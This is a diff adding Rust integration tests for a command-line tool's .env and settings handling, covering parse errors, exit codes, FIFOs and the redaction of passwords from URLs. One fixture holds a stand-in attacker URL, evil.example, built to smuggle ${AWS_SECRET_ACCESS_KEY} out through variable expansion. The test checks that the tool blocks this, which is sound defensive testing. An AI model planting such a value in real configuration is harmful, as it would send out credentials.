@@ -77,10 +77,118 @@ fn bad_values_exit_with_78_and_name_variable_and_range() {
     assert_eq!(folder.names(), [""; 0]);
     let undated = run_with(&folder, &[("TRADE_GEN_START_DATE", "tomorrow")], &["record", "--seed", "1"]);
     undated.fails(78, "expected a date as 2026-02-18");
-    folder.write(".env", "TRADE_GEN_SEED=1\nPASSWORD=hush hush\n");
+    folder.write(".env", "A=1\nTRADE_GEN_SEED=hush hush\n");
     let run = folder.run(RECORD);
-    run.fails(78, ".env cannot be used: the line after TRADE_GEN_SEED");
+    run.fails(78, ".env cannot be used: line 2: has a value with spaces");
     assert!(!run.stderr.contains("hush"), "{}", run.stderr);
+}
+
+#[test]
+fn foreign_lines_stop_a_command_only_where_the_file_was_named() {
+    let folder = Folder::new();
+    folder.write(".env", b"\xef\xbb\xbfTRADE_GEN_SEED=31\nPASSWORD=hush hush\nKEY=\"open\n\xff\n[section]\n");
+    let run = folder.run(RECORD);
+    assert_eq!((run.code, run.json()["seed"].as_u64()), (0, Some(31)), "{}", run.stderr);
+    let run = folder.run(&[RECORD, &["--env-file", ".env"]].concat());
+    run.fails(78, ".env cannot be used: line 2: has a value with spaces");
+    assert!(!run.stderr.contains("hush"), "{}", run.stderr);
+}
+
+#[test]
+fn nothing_of_the_environment_gets_into_a_setting_of_a_file() {
+    let folder = Folder::new();
+    folder.write(
+        ".env",
+        "KAFKA_BRIDGE_WS_URI=ws://evil.example/?k=${AWS_SECRET_ACCESS_KEY}\nTRADE_GEN_WS_HOST=$HOME\n",
+    );
+    let secret = [("AWS_SECRET_ACCESS_KEY", "hush")];
+    let run = run_with(&folder, &secret, &["config", "show", "--json"]);
+    run.fails(78, "TRADE_GEN_WS_HOST is \"$HOME\" in .env");
+    assert!(!run.stdout.contains("hush") && !run.stderr.contains("hush"), "{run:?}");
+}
+
+#[test]
+fn a_file_that_is_not_a_regular_one_is_not_waited_for() {
+    let folder = Folder::new();
+    assert!(folder.wrapped("mkfifo", &[".env"]).status().unwrap().success());
+    let args = [RECORD, &["--seed", "1"]].concat();
+    let run = folder.run(&args);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert!(run.stderr.contains("warning: .env is ignored: it is not a regular file"), "{}", run.stderr);
+    folder.run(&[&args[..], &["--env-file", ".env"]].concat()).fails(78, "it is not a regular file");
+}
+
+#[test]
+fn commands_that_use_no_setting_read_none() {
+    let folder = Folder::new();
+    folder.ok(&["record", "--date", "2026-02-18", "--seed", "1", "--limit", "20", "-o", "day.parquet"]);
+    folder.write(".env", "TRADE_GEN_RATE=bad bad\n");
+    for args in [
+        &["info", "day.parquet"][..],
+        &["cat", "day.parquet"],
+        &["verify", "day.parquet"],
+        &["diff", "day.parquet", "day.parquet"],
+        &["filter", "day.parquet", "--limit", "1", "-o", "cut.parquet"],
+        &["merge", "day.parquet", "-o", "merged.parquet"],
+        &["export", "day.parquet", "-o", "day.jsonl"],
+        &["completions", "bash"],
+        &["man"],
+    ] {
+        let run = run_with(&folder, &[("TRADE_GEN_LOG_LEVEL", "LOUD"), ("TRADE_GEN_RATES", "5")], args);
+        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
+        assert!(!run.stderr.contains("TRADE_GEN"), "{args:?}: {}", run.stderr);
+    }
+    folder.run(RECORD).fails(78, ".env cannot be used");
+}
+
+#[test]
+fn a_recording_names_every_setting_that_did_not_come_from_its_command_line() {
+    let folder = Folder::new();
+    folder.write(".env", "TRADE_GEN_WS_PORT=9000\n");
+    let args = [RECORD, &["--seed", "1", "--rate", "2"]].concat();
+    let variables =
+        [("TRADE_GEN_BURST_MULTIPLIER", "30"), ("TRADE_GEN_RATE", "3"), ("TRADE_GEN_NUM_SYMBOLS", "9")];
+    let run = run_with(&folder, &variables, &args);
+    for line in [
+        "setting TRADE_GEN_WS_PORT=9000 (.env) has no effect on a recording",
+        "setting TRADE_GEN_BURST_MULTIPLIER=30 (environment) has no effect on a recording",
+        "setting TRADE_GEN_NUM_SYMBOLS=9 (environment)",
+    ] {
+        assert!(run.stderr.lines().any(|found| found == line), "{line}: {}", run.stderr);
+    }
+    assert!(!run.stderr.contains("TRADE_GEN_RATE"), "{}", run.stderr);
+    let ignoring = run_with(&folder, &variables, &[&args[..], &["--no-env"]].concat());
+    assert!(!ignoring.stderr.contains("TRADE_GEN"), "{}", ignoring.stderr);
+}
+
+#[test]
+fn urls_are_shown_without_their_passwords() {
+    let folder = Folder::new();
+    folder.write(
+        ".env",
+        "KAFKA_BRIDGE_SCHEMA_REGISTRY_URL=http://user:hush@127.0.0.1:1/api?key=hush\n\
+         KAFKA_BRIDGE_WS_URI=ws://127.0.0.1:1/feed?token=hush\n",
+    );
+    for args in [&["config", "show"][..], &["config", "show", "--json"], &["schemas", "check"]] {
+        let run = folder.run(args);
+        assert!(!run.stdout.contains("hush") && !run.stderr.contains("hush"), "{run:?}");
+        let all = run.stdout + &run.stderr;
+        assert!(all.contains("http://127.0.0.1:1/api"), "{args:?}: {all}");
+    }
+    // nor in what is refused on a command line
+    for args in [
+        ["tail", "ws://user:hush@127.0.0.1:1/"],
+        ["capture", "http//user:hush@127.0.0.1:1/"],
+        ["bridge", "--ws-uri=http://user:hush@127.0.0.1:1/?a=hush"],
+    ] {
+        let run = folder.run(&args);
+        assert!(run.code == 2 && !run.stderr.contains("hush"), "{run:?}");
+    }
+    // not as the value of a setting that cannot be used either
+    folder.write(".env", "KAFKA_BRIDGE_WS_URI=http://user:hush@127.0.0.1:1/\n");
+    let run = folder.run(&["config", "show"]);
+    run.fails(78, "KAFKA_BRIDGE_WS_URI is \"http://127.0.0.1:1/\" in .env");
+    assert!(!run.stdout.contains("hush") && !run.stderr.contains("hush"), "{run:?}");
 }
 
 #[test]
